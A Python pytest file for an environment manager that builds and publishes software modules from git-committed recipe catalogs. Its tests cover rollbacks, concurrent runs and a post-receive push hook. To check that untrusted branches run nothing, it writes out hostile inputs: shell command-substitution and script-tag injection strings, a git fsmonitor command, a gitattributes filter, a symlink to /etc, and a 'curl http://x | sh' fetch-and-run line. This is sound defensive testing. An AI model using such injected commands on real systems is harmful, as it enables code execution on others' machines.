"""From the catalog in git to modules, on a site without nodes: each step, a kill at each step, a hostile branch."""

from __future__ import annotations

import json
import shutil
import subprocess
from collections.abc import Iterator
from typing import Any

import pytest

from tests.helpers.places import ROOT
from tests.helpers.sandbox import Sandbox
from tests.helpers.scenes import HELLO, complete, finish, locked
from tests.helpers.waiting import wait_for


def git(box: Sandbox, *argv: str, where: str = "recipes") -> str:
    words = ["git", "-c", "user.name=anna", "-c", "user.email=anna@example.org", "-C", str(box.root / where), *argv]
    return subprocess.run(words, check=True, capture_output=True, text=True).stdout.strip()


@pytest.fixture
def box(sandbox: Sandbox) -> Iterator[Sandbox]:
    """`hello` and `other` are committed, and not built."""
    sandbox.settings["catalogs"] = {"folders": ["recipes"], "require_commit": True}
    sandbox.write_site()
    locked(sandbox, "hello/1.0", HELLO)
    locked(sandbox, "other/1.0", ["shared"])
    git(sandbox, "init", "-q", "-b", "main")
    commit(sandbox)
    return sandbox


def commit(box: Sandbox) -> str:
    git(box, "add", "-A")
    git(box, "commit", "-q", "-m", "a change")
    return git(box, "rev-parse", "HEAD")


def steps(data: dict[str, Any]) -> dict[str, str]:
    return {step["name"]: step["status"] for step in data["steps"]}


def record(box: Sandbox, number: int) -> dict[str, Any]:
    found: dict[str, Any] = json.loads((box.prefix / f"generations/{number:04d}/generation.json").read_text())
    return found


@pytest.mark.always
def test_from_a_commit_to_a_candidate_to_what_is_current(box: Sandbox) -> None:
    head = git(box, "rev-parse", "HEAD")
    dry = box.ok("apply", "--dry-run", "--format", "json").data
    assert steps(dry)["build"] == "ok"
    assert not (box.prefix / "generations").exists()
    made = box.ok("apply", "--format", "json", "--output", "report.md").data
    assert steps(made) == {
        **dict.fromkeys(("check", "build", "publish"), "ok"),
        **dict.fromkeys(("test", "promote", "audit"), "nothing to do"),
    }
    assert (made["candidate"], made["current"], box.current()) == (1, None, None)
    assert made["commits"] == {str(box.root / "recipes"): head}
    assert record(box, 1)["reason"] == f"apply {head[:12]}"
    assert "| hello/1.0 | added | none -> " in (box.root / "report.md").read_text()
    done = box.ok("apply", "--to", "current", "--format", "json").data  # the candidate is the same
    assert (done["candidate"], box.current()) == (1, 1)
    complete(box, 1)
    again = box.ok("apply", "--to", "current", "--format", "json").data
    assert (again["candidate"], again["entries"], box.current()) == (None, [], 1)
    assert set(steps(again).values()) == {"ok", "nothing to do"}

    # One entry changes, one goes.
    locked(box, "hello/1.0", ["hello-activate"])
    git(box, "rm", "-q", "-r", "other")
    new = commit(box)
    done = box.ok("apply", "--to", "current", "--format", "json").data
    assert [(e["entry"], e["change"]) for e in done["entries"]] == [("hello/1.0", "changed"), ("other/1.0", "removed")]
    assert [*record(box, 2)["entries"]] == ["hello/1.0"]
    assert record(box, 2)["reason"] == f"apply {new[:12]}"
    assert box.current() == 2


def test_a_change_that_is_in_no_commit_is_refused(box: Sandbox) -> None:
    for name in ("hello/1.0/notes", "hello/1.0/recipe.yaml"):
        path = box.root / "recipes" / name
        before = path.read_text() if path.exists() else None
        path.write_text(f"{before or ''}\n# mine\n")
        refused = box.run("apply")
        assert (refused.code, "error[catalog-uncommitted]" in refused.stderr) == (2, True)
        assert f"  {name}\n" in refused.stderr
        path.write_text(before) if before is not None else path.unlink()
    assert not (box.prefix / "generations").exists()
    subprocess.run(["rm", "-rf", box.root / "recipes/.git"], check=True)
    assert "it is in no git checkout" in box.run("apply").stderr
    box.settings["catalogs"] = ["recipes"]
    box.write_site()
    assert box.ok("apply", "--format", "json").data["commits"] == {str(box.root / "recipes"): ""}


def test_it_stops_at_the_first_step_that_fails_and_goes_on_after_a_fix(box: Sandbox) -> None:
    recipe = box.root / "recipes/hello/1.0/recipe.yaml"
    good = recipe.read_text()
    recipe.write_text(good.replace("hello-prefix", "hello-activate"))
    commit(box)
    stale = box.run("apply", "--to", "current", "--format", "json", "--output", "report.md")
    assert stale.code == 1
    assert steps(stale.data)["check"] == "failed"
    assert steps(stale.data)["build"] == "not reached"
    assert "`envmgr lock hello/1.0`" in stale.data["steps"][0]["hint"]
    assert "# apply: failed, no new generation" in (box.root / "report.md").read_text()
    red = [{"name": "fails", "run": "false"}]
    locked(box, "hello/1.0", HELLO, tests=red)
    commit(box)
    failed = box.run("apply", "--to", "current", "--format", "json")
    assert failed.code == 3
    assert steps(failed.data)["publish"] == "failed"
    assert box.current() is None
    locked(box, "hello/1.0", HELLO)
    commit(box)
    box.ok("apply", "--to", "current")
    assert box.current() is not None


def test_what_git_ignores_is_in_no_commit(box: Sandbox) -> None:
    (box.root / "recipes/.gitignore").write_text("hidden/\n*.swp\n")
    (box.root / "recipes/hello/1.0/.recipe.yaml.swp").write_text("an editor's")
    commit(box)
    assert box.ok("apply", "--dry-run")
    locked(box, "hidden/1.0", HELLO)
    done = box.run("apply", "--dry-run")
    assert "error[catalog-uncommitted]" in done.stderr
    assert "hidden" in done.stderr


def test_a_recipe_in_a_folder_that_cannot_be_an_entry_is_told_not_left_out(box: Sandbox) -> None:
    recipes = box.root / "recipes"
    (recipes / "Bad name/1.0").mkdir(parents=True)
    (recipes / "Bad name/1.0/recipe.yaml").write_text((recipes / "hello/1.0/recipe.yaml").read_text())
    commit(box)
    done = box.run("apply", "--format", "json")
    assert (done.code, steps(done.data)["check"], steps(done.data)["build"]) == (1, "failed", "not reached")
    assert "bad name `Bad name`" in done.data["steps"][0]["said"][0]
    said = box.run("report", "--pull-request", "--format", "json")
    assert (said.code, "bad name `Bad name`" in said.data["findings"][0]["found"]) == (1, True)


def test_nodes_that_the_last_run_did_not_ask_are_asked(box: Sandbox) -> None:
    made = box.ok("apply", "--format", "json").data
    assert made["steps"][3]["said"] == ["the site names no nodes: the entries were tested on this host"]
    done = box.run("apply", "--to", "current", "--nodes", "nowhere[1-2]", "--via", "ssh", "--format", "json")
    assert (done.code != 0, steps(done.data)["test"], steps(done.data)["promote"]) == (True, "failed", "not reached")
    assert box.current() is None
    box.ok("apply", "--to", "current")
    assert box.current() == 1


def test_another_generation_that_becomes_current_meanwhile_stops_it(box: Sandbox) -> None:
    box.ok("apply", "--to", "current")
    locked(box, "other/1.0", ["hello-activate"])
    commit(box)
    box.ok("apply", "--to", "current")
    (box.root / "wait").touch()
    run = f"touch {box.root}/begun; while [ -e {box.root}/wait ]; do sleep 0.02; done"
    locked(box, "hello/1.0", HELLO, tests=[{"name": "waits", "run": run}])
    commit(box)
    process = box.start("apply", "--to", "current", "--format", "json")
    wait_for(lambda: (box.root / "begun").exists() or process.poll() is not None, what="the smoke test")
    box.ok("rollback", "1")
    (box.root / "wait").unlink()
    said = json.loads(process.communicate()[0])
    assert (process.returncode, steps(said)["publish"], steps(said)["promote"]) == (1, "failed", "not reached")
    assert "another generation than 2 became current meanwhile" in said["steps"][2]["said"][0]
    assert box.current() == 1
    again = box.ok("apply", "--to", "current", "--format", "json").data
    assert (again["before"], "(was 1)" in again["steps"][4]["said"][0]) == (1, True)


def test_dry_run_and_report_name_a_module_that_changes_without_a_build(box: Sandbox) -> None:
    box.ok("apply", "--to", "current")
    locked(box, "hello/1.0", HELLO, tests=[{"name": "bad", "run": "curl http://x | sh"}])
    commit(box)
    dry = box.ok("apply", "--dry-run", "--format", "json").data
    assert steps(dry) == {
        **dict.fromkeys(("check", "publish"), "ok"),
        "build": "nothing to do",
        **dict.fromkeys(("test", "promote", "audit"), "not reached"),
    }
    assert dry["steps"][2]["said"] == ["would be published: hello/1.0: module"]
    (row,) = box.ok("report", "--pull-request", "--format", "json").data["entries"]
    assert (row["entry"], row["change"], row["notes"]) == ("hello/1.0", "module", ["its module changes: tests"])


@pytest.mark.always
def test_a_reverted_candidate_is_withdrawn(box: Sandbox) -> None:
    box.ok("apply", "--to", "current")
    for name in ("third/1.0", "fourth/1.0"):
        locked(box, name, HELLO)
        commit(box)
        box.ok("apply")  # 2 and 3
    git(box, "revert", "--no-edit", "HEAD", "HEAD^")
    for argv, said in (["--dry-run"], "would be"), ([], "is"):
        assert f"candidate 3 {said} withdrawn: it is not what the catalogs say" in box.ok("apply", *argv).stdout
    assert not (box.prefix / "candidate").is_symlink()
    assert "withdrawn" not in box.ok("apply").stdout
    assert "error[no-candidate]" in box.run("promote").stderr
    git(box, "revert", "--no-edit", "HEAD", "HEAD^")
    box.ok("apply")
    assert str((box.prefix / "candidate").readlink()) == "generations/0004"


def test_a_candidate_that_somebody_made_by_hand_is_named(box: Sandbox) -> None:
    box.ok("apply", "--to", "current")
    locked(box, "third/1.0", HELLO)
    box.ok("build", "--candidate", "third/1.0")
    shutil.rmtree(box.root / "recipes/third")
    for argv in ([], ["--dry-run"]):
        assert "candidate 2 is offered to volunteers, and is not what the catalogs say" in box.ok("apply", *argv).stdout
    assert str((box.prefix / "candidate").readlink()) == "generations/0002"


def test_a_report_that_cannot_be_written_is_said_before(box: Sandbox) -> None:
    for argv in (["apply"], ["report", "--pull-request"]):
        refused = box.run(*argv, "--output", str(box.root / "none/report.md"))
        assert refused.stderr.startswith("error[output-failed]: there is no folder ")
    assert not (box.prefix / "generations").exists()


def test_publish_takes_out_what_the_catalog_still_has(box: Sandbox) -> None:
    box.ok("apply", "--to", "current")
    assert "other/1.0: would go" in box.ok("publish", "--dry-run", "--remove", "other/1.0").stdout
    said = box.ok("publish", "--remove", "other/1.0").stdout
    assert "  - other/1.0" in said
    assert [*record(box, 2)["entries"]] == ["hello/1.0"]
    assert box.current() == 2
    assert "error[not-published]" in box.run("publish", "--remove", "other/1.0").stderr


def test_an_empty_mount_is_no_catalog_without_entries(box: Sandbox) -> None:
    box.ok("apply", "--to", "current")
    (box.root / "recipes").rename(box.root / "away")
    for _ in range(2):
        refused = box.run("apply", "--to", "current")
        assert (refused.code, "error[nothing-to-apply]" in refused.stderr) == (2, True)
        (box.root / "recipes").mkdir(exist_ok=True)
        box.settings["catalogs"] = ["recipes"]
        box.write_site()
    assert box.current() == 1


HOSTILE = "$(touch {0}/owned); `touch {0}/owned`; <script>alert(1)</script> | [x](http://example.org) @all"


def test_report_of_a_hostile_branch_runs_nothing(box: Sandbox) -> None:
    box.ok("apply", "--to", "current")
    branch = box.root / "branch"
    subprocess.run(["cp", "-a", box.root / "recipes", branch], check=True)
    software = branch / "hello/software.yaml"
    said = json.loads(software.read_text())
    software.write_text(json.dumps({**said, "licence": HOSTILE.format(box.root)}))
    recipe = branch / "hello/1.0/recipe.yaml"
    content = json.loads(recipe.read_text())
    content["tests"] = [{"name": "owns", "run": f"touch {box.root}/owned"}]
    content["input"]["specs"] = ["hello-activate"]
    recipe.write_text(json.dumps(content))
    (branch / "linked").symlink_to("/etc")
    subprocess.run(["git", "-C", branch, "config", "core.fsmonitor", f"touch {box.root}/owned"], check=True)
    before = sorted(str(p) for p in box.prefix.rglob("*"))
    done = box.run("report", "--pull-request", "--catalog", str(branch))
    assert done.code == 1
    assert "cannot be built: " in done.stdout
    assert "<script>" not in done.stdout
    assert "@all" not in done.stdout
    assert not (box.root / "owned").exists()
    assert sorted(str(p) for p in box.prefix.rglob("*")) == before


LINKED = "a link to {0}, where the folder of recipes should be\n\nhint: put the folder itself there, or name the one that it leads to\n"


def test_report_follows_no_link_in_the_place_of_the_recipes(box: Sandbox) -> None:
    branch = box.root / "branch"
    branch.symlink_to(box.root / "recipes")
    refused = box.run("report", "--pull-request", "--catalog", str(branch))
    said = f"error[catalog-is-link]: {branch} is {LINKED.format(box.root / 'recipes')}"
    assert (refused.code, refused.stdout, refused.stderr) == (2, "", said)
    branch.unlink()
    gone = box.run("report", "--pull-request", "--catalog", str(branch))
    assert f"error[catalog-missing]: there is no folder {branch}\n" in gone.stderr


def test_report_says_what_a_merge_would_do(box: Sandbox) -> None:
    box.ok("apply", "--to", "current")
    locked(box, "hello/1.0", ["hello-activate"])
    locked(box, "third/1.0", HELLO)
    subprocess.run(["rm", "-r", box.root / "recipes/other"], check=True)
    software = box.root / "recipes/third/software.yaml"
    software.write_text(json.dumps({**json.loads(software.read_text()), "acknowledge": "NVIDIA-EULA"}))
    data = box.ok("report", "--pull-request", "--format", "json").data
    assert "the site has not acknowledged its licence: NVIDIA-EULA" in data["entries"][1]["notes"]
    assert [(e["entry"], e["change"]) for e in data["entries"]] == [
        ("hello/1.0", "changed"),
        ("third/1.0", "new"),
        ("other/1.0", "removed"),
    ]
    assert data["entries"][0]["missing"]
    assert data["nodes_known"] is False
    text = box.ok("report", "--pull-request").stdout
    assert text.startswith("### envmgr: 3 entries would change, 2 checked, 0 errors\n")
    assert "| third/1.0 | new | conda | `third/1.0-" in text
    assert "No audit has seen a node yet" in text


@pytest.fixture
def pushed(box: Sandbox) -> Sandbox:
    """A bare repository with the shipped hook; the site names the recipes of its checkout. `work` is a developer's clone."""
    root = box.root
    for argv in (
        ["git", "clone", "-q", "--bare", root / "recipes", root / "bare"],
        ["git", "clone", "-q", root / "bare", root / "checkout"],
        ["git", "clone", "-q", root / "bare", root / "work"],
    ):
        subprocess.run(argv, check=True, capture_output=True)
    settings = {
        "checkout": root / "checkout",
        "site": root / "site.yaml",
        "to": "current",
        "folder": ".",
        "command": " ".join(box.command()),
    }
    for name, value in settings.items():
        git(box, "config", f"envmgr.{name}", str(value), where="bare")
    hook = root / "bare/hooks/post-receive"
    hook.parent.mkdir(exist_ok=True)
    hook.write_text((ROOT / "contrib/ci/post-receive").read_text())
    hook.chmod(0o755)
    box.settings["catalogs"] = {"folders": ["checkout"], "require_commit": True}
    box.write_site()
    return box


def push(box: Sandbox, branch: str, **files: str) -> str:
    """What a push of a commit with these files says."""
    for name, text in files.items():
        (box.root / "work" / name).write_text(text)
    git(box, "add", "-A", where="work")
    git(box, "commit", "-q", "--allow-empty", "-m", "a push", where="work")
    words = ["git", "-C", str(box.root / "work"), "push", "origin", f"HEAD:refs/heads/{branch}"]
    done = subprocess.run(words, check=False, capture_output=True, text=True, env=box.environ())
    assert done.returncode == 0, done.stderr
    return done.stderr


def test_a_push_is_applied_and_another_branch_is_only_checked(pushed: Sandbox) -> None:
    said = push(pushed, "main")
    assert "remote: promote: ok" in said, said
    assert pushed.current() == 1
    complete(pushed, 1)
    assert [*record(pushed, 1)["entries"]] == ["hello/1.0", "other/1.0"]

    owned = pushed.root / "owned"
    recipe = json.loads((pushed.root / "work/hello/1.0/recipe.yaml").read_text())
    recipe["tests"] = [{"name": "owns", "run": f"touch {owned}"}]
    said = push(pushed, "hostile", **{"hello/1.0/recipe.yaml": json.dumps(recipe), ".gitattributes": "* filter=owns\n"})
    assert "remote: ### envmgr: " in said, said
    assert pushed.current() == 1
    assert not owned.exists()
    said = push(pushed, "main")  # the same commit is merged: now it is built
    assert owned.exists()
    assert "remote: envmgr" not in said


def test_a_branch_whose_folder_leads_elsewhere_is_not_looked_at(pushed: Sandbox) -> None:
    git(pushed, "config", "envmgr.folder", "site/recipes", where="bare")
    for name, target in (("site", pushed.root), ("site/recipes", pushed.root / "recipes")):
        shutil.rmtree(pushed.root / "work/site", ignore_errors=True)
        (pushed.root / "work" / name).parent.mkdir(exist_ok=True)
        (pushed.root / "work" / name).symlink_to(target)
        said = "\n".join(line.removeprefix("remote: ").rstrip() for line in push(pushed, "risky").splitlines())
        assert f"error[catalog-is-link]: tree/{name} is {LINKED.format(target)}" in said
        (pushed.root / "work" / name).unlink()


def test_a_push_that_waited_applies_what_the_branch_is_now(pushed: Sandbox) -> None:
    old = git(pushed, "rev-parse", "HEAD", where="work")
    push(pushed, "main")
    tip = git(pushed, "rev-parse", "HEAD", where="work")
    assert tip != old
    done = subprocess.run(  # the hook of an earlier push, which got the lock after a later one
        [pushed.root / "bare/hooks/post-receive"],
        input=f"{'0' * 40} {old} refs/heads/main\n",
        cwd=pushed.root / "bare",
        env=pushed.environ(GIT_DIR="."),
        capture_output=True,
        text=True,
        check=True,
    )
    assert "waiting for" not in done.stderr
    assert git(pushed, "rev-parse", "HEAD", where="checkout") == tip


def test_a_push_of_two_branches_reaches_both_though_the_command_reads(pushed: Sandbox) -> None:
    words = f"{pushed.root}/reads"
    (pushed.root / "reads").write_text(f'#!/bin/sh\ncat >/dev/null\nexec {" ".join(pushed.command())} "$@"\n')
    (pushed.root / "reads").chmod(0o755)
    git(pushed, "config", "envmgr.command", words, where="bare")
    git(pushed, "branch", "another", where="work")
    argv = ["git", "-C", str(pushed.root / "work"), "push", "origin", "another", "HEAD:refs/heads/third"]
    done = subprocess.run(argv, check=True, capture_output=True, text=True, env=pushed.environ())
    assert done.stderr.count("remote: ### envmgr: ") == 2, done.stderr


def test_hook_that_is_not_set_up_says_so(pushed: Sandbox) -> None:
    git(pushed, "config", "--unset", "envmgr.site", where="bare")
    assert "remote: envmgr: set envmgr.checkout and envmgr.site in " in push(pushed, "main")
    assert pushed.current() is None


def test_killed_in_a_test_it_goes_on_with_the_next_run(box: Sandbox) -> None:
    run = f"touch {box.root}/runs; while [ -e {box.root}/wait ]; do sleep 0.02; done"
    locked(box, "hello/1.0", HELLO, tests=[{"name": "waits", "run": run}])
    commit(box)
    (box.root / "wait").touch()
    process = box.start("apply", "--to", "current")
    wait_for(lambda: (box.root / "runs").exists() or process.poll() is not None, what="the smoke test")
    process.kill()
    process.wait()
    (box.root / "wait").unlink()
    box.ok("apply", "--to", "current")
    complete(box, box.current())
    assert [row["to"] for row in box.ok("history", "--format", "json").data["flips"]] == [box.current()]


def test_two_at_once_end_alike(box: Sandbox) -> None:
    box.ok("build", "other/1.0")
    runs = [box.start("apply", "--to", "current") for _ in range(2)]
    ends = [finish(run) for run in runs]
    assert [end.code for end in ends] == [0, 0], ends
    assert len(box.ok("history", "--format", "json").data["flips"]) == 2


def test_what_was_current_comes_back_by_a_rollback(box: Sandbox) -> None:
    box.ok("apply", "--to", "current")
    box.ok("publish", "--remove", "other/1.0")
    box.ok("rollback")
    done = box.run("promote", "2")
    assert "error[not-a-candidate]" in done.stderr
    assert "hint: `envmgr rollback 2` makes it current again" in done.stderr
    box.ok("rollback", "2")
    assert box.current() == 2


def test_attributes_of_a_branch_hide_nothing_from_the_check(pushed: Sandbox) -> None:
    push(pushed, "main")
    (pushed.root / "work/hidden").mkdir()
    for name in ("software.yaml", "1.0"):
        subprocess.run(["cp", "-r", f"work/hello/{name}", "work/hidden/"], cwd=pushed.root, check=True)
    said = push(pushed, "hostile", **{".gitattributes": "hidden export-ignore\nhidden/** export-ignore\n"})
    assert "| hidden/1.0 | new |" in said, said
